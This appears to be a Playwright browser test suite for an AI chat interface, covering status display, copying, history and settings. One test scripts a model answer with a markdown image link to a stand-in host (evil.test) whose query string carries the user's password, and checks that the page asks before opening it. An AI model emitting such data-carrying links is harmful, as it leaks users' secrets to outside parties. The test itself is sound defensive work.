"""What a careful page tells, and asks before it does it."""

import re

from playwright.sync_api import Route, expect

from tests.browser.visitor import Visitor
from tests.browser.waiting import running
from tests.servers import Server
from tests.upstream import Upstream, stream

PLAIN_HTTP = """() => {
    Object.defineProperty(crypto, "randomUUID", { value: undefined })
    Object.defineProperty(navigator, "clipboard", { value: undefined })
}"""


def test_a_running_answer_says_what_it_does_and_for_how_long(visitor: Visitor, upstream: Upstream) -> None:
    gate = running(visitor, upstream)
    facts = visitor.answers.last.get_by_role("list", name="Facts")
    expect(facts).to_contain_text(re.compile(r"waiting for the first token · [1-9]\d* s"))
    visitor.reloads()
    expect(facts).to_contain_text(re.compile(r"waiting for the first token · [1-9]\d* s"))
    gate.open()
    visitor.sees_answer("end")
    expect(facts).not_to_contain_text("waiting")


def test_the_dot_of_another_conversation_goes_out_when_its_answer_ends(
    visitor: Visitor, upstream: Upstream
) -> None:
    gate = running(visitor, upstream, "Hello")
    path = visitor.path
    visitor.opens()
    row = visitor.history.locator(f"a[href='{path}']")
    expect(row).to_contain_text("running")
    gate.open()
    expect(row).not_to_contain_text("running")


def test_a_page_that_came_by_plain_http_sends_and_copies(visitor: Visitor) -> None:
    visitor.context.grant_permissions(["clipboard-read", "clipboard-write"])
    visitor.page.add_init_script(f"({PLAIN_HTTP})()")
    visitor.asks("mirror", "No secrets here")
    visitor.sees_answer("No secrets here")
    visitor.does("Copy", visitor.answers.last)
    expect(visitor.page.get_by_text("Copied", exact=True)).to_have_count(1)
    visitor.message.press("Control+V")
    expect(visitor.message).to_have_value("No secrets here")


def test_where_nothing_may_be_copied_it_is_said(visitor: Visitor) -> None:
    visitor.page.add_init_script(f"({PLAIN_HTTP})(); document.execCommand = () => false")
    visitor.asks("mirror", "No secrets here")
    visitor.sees_answer("No secrets here")
    visitor.does("Copy", visitor.answers.last)
    visitor.sees("This browser does not let the page copy.")
    visitor.button("View code").click()
    dialog = visitor.page.get_by_role("dialog", name="View code")
    visitor.button("Copy", dialog).click()
    expect(dialog.get_by_role("alert")).to_contain_text("This browser does not let the page copy.")
    assert "No secrets here" in visitor.evaluate("getSelection().toString()")


def test_links_that_could_carry_words_away_ask_first(visitor: Visitor, upstream: Upstream) -> None:
    stolen = "https://evil.test/i?d=my%20password%20is%20tulip"
    text = f"[harmless](https://docs.test/a?b=c) [image]({stolen}) [long](https://long.test/{'a' * 600})"
    upstream.script(stream(text), model="mirror")
    visitor.asks("mirror", "Remember: my password is tulip.")
    visitor.sees_answer("harmless")
    visitor.context.route(re.compile(r"https://\w+\.test/"), lambda route: route.fulfill(body="away"))
    question = visitor.page.get_by_role("dialog", name="Open this address?")
    with visitor.context.expect_page() as opened:
        visitor.answers.last.get_by_role("link", name="harmless").click()
    opened.value.close()
    expect(question).to_be_hidden()
    visitor.answers.last.get_by_role("link", name="long").click()
    expect(question).to_contain_text("https://long.test/" + "a" * 600)
    visitor.button("Stay here").click()
    visitor.answers.last.get_by_role("link", name="image").click(button="middle")
    expect(question).to_contain_text("It carries text that you wrote")
    expect(question).to_contain_text(stolen)
    expect(visitor.button("Stay here")).to_be_focused()
    assert len(visitor.context.pages) == 1
    with visitor.context.expect_page() as opened:
        question.get_by_role("link", name="Open").click()
    opened.value.wait_for_url(stolen)
    expect(question).to_be_hidden()


def test_a_conversation_is_deleted_with_the_mouse(visitor: Visitor) -> None:
    visitor.asks("mirror", "Under the pointer")
    visitor.sees_answer()
    row = visitor.history.get_by_role("listitem").filter(has_text="Under the pointer")
    row.hover()
    visitor.button("Delete Under the pointer").click()
    expect(row).to_have_count(0)


def test_earlier_messages_come_above_what_is_read(visitor: Visitor, server: Server) -> None:
    visitor.asks("mirror", "Message 0")
    visitor.sees_answer("Message 0")
    for number in range(1, 17):
        visitor.sends(f"Message {number}")
        expect(visitor.questions.last).to_contain_text(f"Message {number}")
        visitor.sees_answer(f"Message {number}")
    visitor.reloads()
    visitor.sees_answer("Message 16")
    expect(visitor.answers).to_have_count(15)
    log = visitor.page.get_by_role("log", name="Messages")
    first = visitor.questions.filter(has_text="Message 2").first
    log.evaluate("log => (log.scrollTop = 0)")
    before = first.bounding_box()
    expect(visitor.answers).to_have_count(17)
    after = first.bounding_box()
    assert before
    assert after
    assert abs(before["y"] - after["y"]) < 4


def test_a_provider_is_removed_after_a_question(visitor: Visitor) -> None:
    visitor.opens("/settings/")
    form = visitor.page.get_by_role("form", name="Add a provider")
    form.get_by_label("Name").fill("Short-lived")
    form.get_by_label("Base URL").fill("http://127.0.0.1:9/v1")
    visitor.button("Add provider").click()
    row = visitor.page.get_by_role("group").filter(has_text="Short-lived")
    row.get_by_text("Short-lived").click()
    visitor.button("Remove", row).click()
    question = visitor.page.get_by_role("dialog", name="Remove Short-lived?")
    visitor.button("Cancel", question).click()
    expect(visitor.button("Remove", row)).to_be_focused()
    visitor.button("Remove", row).click()
    visitor.button("Remove", question).click()
    expect(row).to_have_count(0)


def test_a_model_chosen_before_its_list_has_come_is_the_one_that_answers(
    visitor: Visitor, upstream: Upstream
) -> None:
    def slowly(route: Route) -> None:
        visitor.page.wait_for_timeout(500)
        route.continue_()

    visitor.opens()
    visitor.page.route("**/models/", slowly)
    model = visitor.page.get_by_role("combobox", name="Model")
    model.click()
    visitor.page.keyboard.type("tokens-3-speed-0")
    model.press("Enter")
    visitor.sends("Quickly")
    visitor.sees_answer()
    assert upstream.requests[-1].body["model"] == "tokens-3-speed-0"
